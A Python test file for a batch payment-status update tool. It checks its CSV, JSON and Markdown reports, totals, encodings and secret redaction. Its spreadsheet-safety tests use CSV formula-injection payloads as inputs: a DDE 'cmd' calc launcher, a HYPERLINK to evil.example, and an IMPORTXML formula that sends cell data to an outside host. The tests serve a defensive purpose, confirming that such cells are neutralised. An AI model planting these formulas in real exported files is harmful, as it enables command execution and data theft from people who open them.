"""The report files of a run: columns, order, content, and that the totals add up."""

import json
import random

import pandas as pd
import pytest
from conftest import API_URL, SECRET, FakeIamport, envelope

from batch.client import Credentials
from batch.config import RunConfig
from batch.errors import InputChangedError
from batch.job import execute, prepare
from batch.reports import neutralise_formulas
from batch.retry import BackoffPolicy

INPUT = """\
imp_uid,status,memo,outcome
imp_100,DELIVERY_START,"첫 번째, 정상",x
imp_404,CANCELED,없는 주문,x
imp_12a,DELIVERY_START,잘못된 id,x
imp_100,delivery_start,중복,x
imp_777,구매확정,PAYCO 아님,x
imp_9,SHIPPED,잘못된 상태,x
imp_503,CANCELED,계속 503,x
"""

RESULT_TAIL = [
    "outcome",
    "error_kind",
    "http_status",
    "api_code",
    "api_message",
    "applied_status",
    "attempts",
    "resent",
    "elapsed_ms",
    "finished_at",
    "reason",
]


def read(path):
    return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")


@pytest.fixture
def run_dir(tmp_path, write_csv, clock):
    iamport = FakeIamport()
    iamport.script["imp_404"] = [envelope(404, -1, "존재하지 않는 결제정보입니다.")]
    iamport.script["imp_777"] = [envelope(200, 1, "PAYCO 결제건이 아닙니다.")]
    iamport.script["imp_503"] = [envelope(503, -1, "busy")]
    config = RunConfig(
        input_path=write_csv(INPUT),
        api_url=API_URL,
        credentials=Credentials("key", SECRET),
        max_attempts=2,
        rate=0,
        out_dir=tmp_path / "run",
    )
    result = execute(
        prepare(config, clock),
        clock=clock,
        transport=iamport.transport(),
        backoff=BackoffPolicy(rng=random.Random(0)),
    )
    assert result.exit_code == 1
    return tmp_path / "run"


def test_run_folder_holds_every_report(run_dir):
    assert sorted(p.name for p in run_dir.iterdir()) == [
        "failures.csv",
        "journal.jsonl",
        "results.csv",
        "summary.json",
        "summary.md",
    ]


def test_results_columns_and_order(run_dir):
    results = read(run_dir / "results.csv")
    # the input's "outcome" column collides with ours and is renamed, not lost
    assert list(results.columns) == [
        "row",
        "imp_uid",
        "status",
        "memo",
        "input_outcome",
        *RESULT_TAIL,
    ]
    assert list(results["row"]) == ["2", "3", "4", "5", "6", "7", "8"]
    assert list(results["memo"])[0] == "첫 번째, 정상"


def test_results_outcomes_per_row(run_dir):
    results = read(run_dir / "results.csv").set_index("row")
    columns = ["outcome", "error_kind", "http_status", "api_code", "attempts"]
    got = [tuple(values) for values in results[columns].itertuples()]
    assert got == [
        ("2", "succeeded", "", "200", "0", "1"),
        ("3", "failed", "not_found", "404", "-1", "1"),
        ("4", "invalid", "validation", "", "", "0"),
        ("5", "duplicate", "", "", "", "0"),
        ("6", "failed", "business", "200", "1", "1"),
        ("7", "invalid", "validation", "", "", "0"),
        ("8", "failed", "server_error", "503", "-1", "2"),
    ]
    assert results.loc["3", "api_message"] == "존재하지 않는 결제정보입니다."
    assert results.loc["2", "applied_status"] == "DELIVERY_START"
    assert results.loc["5", "reason"] == "same imp_uid and status as row 2"
    assert results.loc["6", "reason"] == "business (HTTP 200, code 1): PAYCO 결제건이 아닙니다."
    assert "+09:00" in results.loc["2", "finished_at"]
    assert float(results.loc["2", "elapsed_ms"]) >= 0


def test_failures_can_be_fed_back(run_dir, tmp_path):
    failures = read(run_dir / "failures.csv")
    assert list(failures.columns) == ["imp_uid", "status", "memo", "outcome", "reason"]
    # rows 3, 4, 6, 7, 8 did not succeed; the duplicate of the succeeded row 2 did
    assert list(failures["imp_uid"]) == ["imp_404", "imp_12a", "imp_777", "imp_9", "imp_503"]
    # fed back, the reason column is ignored and the same rows are found again
    plan = prepare(
        RunConfig(input_path=run_dir / "failures.csv", dry_run=True, out_dir=tmp_path / "again")
    )
    assert "reason" not in plan.orders.columns
    assert len(plan.orders.frame) == 5


def test_csv_files_start_with_a_bom_for_excel(run_dir):
    for name in ("results.csv", "failures.csv"):
        assert (run_dir / name).read_bytes().startswith(b"\xef\xbb\xbf")


def test_summary_totals_add_up(run_dir):
    summary = json.loads((run_dir / "summary.json").read_text(encoding="utf-8"))
    assert summary["outcomes"] == {
        "succeeded": 1,
        "failed": 3,
        "unknown": 0,
        "invalid": 2,
        "duplicate": 1,
        "not_sent": 0,
    }
    assert sum(summary["outcomes"].values()) == summary["input"]["rows"] == 7
    assert summary["success_rate"] == round(2 / 7, 4)  # the duplicate of a success counts
    requests = summary["requests"]
    assert (requests["total"], requests["retries"], requests["http_429"]) == (5, 1, 0)
    assert requests["per_second"] > 0  # on the fake clock: only the backoff wait takes time
    assert summary["exit_code"] == 1
    assert summary["by_status"]["CANCELED"] == {"rows": 2, "failed": 2}
    kinds = {g["error_kind"]: g for g in summary["failures"]["by_error_kind"]}
    assert kinds["not_found"] == {"error_kind": "not_found", "count": 1, "examples": ["imp_404"]}
    assert kinds["validation"]["count"] == 2
    messages = {g["message"]: g["count"] for g in summary["failures"]["by_message"]}
    assert messages["PAYCO 결제건이 아닙니다."] == 1
    assert set(summary["latency_ms"]) == {"p50", "p95", "p99", "max"}
    assert summary["options"]["max_attempts"] == 2
    assert summary["input"]["sha256"] and summary["version"]


def test_no_secret_in_any_report(run_dir):
    for path in run_dir.iterdir():
        text = path.read_text(encoding="utf-8-sig")
        assert SECRET not in text, path.name
        assert "tok-DO-NOT-LEAK" not in text, path.name


def test_summary_md_is_readable(run_dir):
    text = (run_dir / "summary.md").read_text(encoding="utf-8")
    assert "| failed | 3 |" in text
    assert "| **total** | **7** |" in text
    assert "존재하지 않는 결제정보입니다." in text


def test_journal_has_a_header_and_one_outcome_per_sent_row(run_dir):
    lines = [json.loads(line) for line in (run_dir / "journal.jsonl").read_text().splitlines()]
    assert lines[0]["type"] == "header"
    assert lines[0]["options"]["api_url"] == API_URL
    outcomes = [line for line in lines if line["type"] == "outcome"]
    assert sorted(o["row"] for o in outcomes) == [2, 3, 6, 8]


# --- spreadsheet safety ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://x.example","click")', '\'=HYPERLINK("http://x.example","click")'),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+82-10-1234-5678", "'+82-10-1234-5678"),
        ("-2+3", "'-2+3"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-1500", "-1500"),
        ("-1500.50", "-1500.50"),
        ("+82", "+82"),
        ("배송 완료 = 정상", "배송 완료 = 정상"),
        ("", ""),
    ],
)
def test_formula_looking_cells_are_neutralised_and_numbers_kept(value, shown):
    table = pd.DataFrame({"memo": [value]})
    assert neutralise_formulas(table)["memo"].tolist() == [shown]


def test_formula_looking_column_names_are_neutralised_too():
    table = pd.DataFrame({"=cmd|' /C calc'!A0": ["x"], "memo": ["y"]})
    assert list(neutralise_formulas(table).columns) == ["'=cmd|' /C calc'!A0", "memo"]


def test_results_are_safe_to_open_and_failures_keep_raw_values(tmp_path, write_csv, clock):
    iamport = FakeIamport()
    iamport.script["imp_2"] = [envelope(200, 1, '=IMPORTXML(CONCAT("http://x/",A1))')]
    text = (
        "imp_uid,status,memo\n"
        'imp_1,CANCELED,"=HYPERLINK(""http://evil.example"",""환불"")"\n'
        "imp_2,CANCELED,@SUM(A1)\n"
        "imp_3,CANCELED,-5000\n"
    )
    config = RunConfig(
        input_path=write_csv(text),
        api_url=API_URL,
        credentials=Credentials("key", SECRET),
        rate=0,
        out_dir=tmp_path / "run",
    )
    execute(prepare(config, clock), clock=clock, transport=iamport.transport())
    results = read(tmp_path / "run" / "results.csv")
    assert results["memo"].tolist() == [
        '\'=HYPERLINK("http://evil.example","환불")',
        "'@SUM(A1)",
        "-5000",
    ]
    assert results.loc[1, "api_message"] == '\'=IMPORTXML(CONCAT("http://x/",A1))'
    failures = read(tmp_path / "run" / "failures.csv")
    assert failures["memo"].tolist() == ["@SUM(A1)"]  # raw, ready to be fixed and fed back


def test_output_encoding_can_be_changed(tmp_path, write_csv, clock):
    config = RunConfig(
        input_path=write_csv("imp_uid,status,memo\nimp_1,취소,환불 😀\n"),
        dry_run=True,
        out_dir=tmp_path / "run",
        output_encoding="cp949",
    )
    execute(prepare(config, clock), clock=clock)
    raw = (tmp_path / "run" / "results.csv").read_bytes()
    assert "환불 ?".encode("cp949") in raw  # what cp949 cannot hold becomes "?"
    assert not raw.startswith(b"\xef\xbb\xbf")


# --- written a chunk at a time -----------------------------------------------------------------

MESSY = (
    "imp_uid,status,memo,row\n"
    'imp_1,CANCELED,"=1+1",a\n'
    ",,,\n"
    'imp_2,취소,"two\nlines",b\n'
    "imp_1,CANCELED,again,c\n"
    "imp_x,CANCELED,-1500,d\n"
    " , , , \n"
    "imp_3,SHIPPED,@x,e\n"
    "imp_4,DELIVERY_START,,f\n"
)


def dry_run(input_path, out_dir, clock):
    return execute(prepare(RunConfig(input_path=input_path, dry_run=True, out_dir=out_dir), clock))


def test_reports_written_a_few_rows_at_a_time_are_those_written_at_once(
    tmp_path, write_csv, clock, monkeypatch
):
    path = write_csv(MESSY)
    dry_run(path, tmp_path / "whole", clock)
    monkeypatch.setattr("batch.reports.WRITE_CHUNK_ROWS", 2)
    dry_run(path, tmp_path / "chunks", clock)

    for name in ("results.csv", "failures.csv"):
        whole = (tmp_path / "whole" / name).read_bytes()
        assert (tmp_path / "chunks" / name).read_bytes() == whole, name
    results = read(tmp_path / "chunks" / "results.csv")
    assert list(results["row"]) == ["2", "4", "5", "6", "8", "9"]
    assert list(results["outcome"]) == [
        "not_sent",
        "not_sent",
        "duplicate",
        "invalid",
        "invalid",
        "not_sent",
    ]
    assert list(results["input_row"]) == ["a", "b", "c", "d", "e", "f"]
    assert list(results["memo"]) == ["'=1+1", "two\nlines", "again", "-1500", "'@x", ""]


def test_an_input_changed_before_the_reports_leaves_no_report_behind(tmp_path, write_csv, clock):
    path = write_csv(MESSY)
    plan = prepare(RunConfig(input_path=path, dry_run=True, out_dir=tmp_path / "run"), clock)
    path.write_text(MESSY.replace("imp_4", "imp_5"), encoding="utf-8")

    with pytest.raises(InputChangedError, match="changed since it was loaded"):
        execute(plan, clock=clock)
    assert sorted(p.name for p in (tmp_path / "run").iterdir()) == ["journal.jsonl"]


@pytest.mark.parametrize(
    ("cells", "shown"),
    [
        (["a\n=1", "b"], ["a\n=1", "b"]),  # a later line of a cell is no formula
        (["a\n=1", "=1"], ["a\n=1", "'=1"]),
        ([1, "-x", None], [1, "'-x", None]),  # not text: left as it is
    ],
    ids=["multi-line", "multi-line-and-formula", "not-text"],
)
def test_only_cells_that_start_like_a_formula_are_neutralised(cells, shown):
    table = pd.DataFrame({"memo": pd.Series(cells, dtype=object)})
    assert neutralise_formulas(table)["memo"].tolist() == shown


def test_categorical_cells_are_neutralised_by_their_values():
    table = pd.DataFrame({"api_message": pd.Categorical(["=bad", "ok", "=bad"])})
    neutralised = neutralise_formulas(table)["api_message"]
    assert neutralised.tolist() == ["'=bad", "ok", "'=bad"]
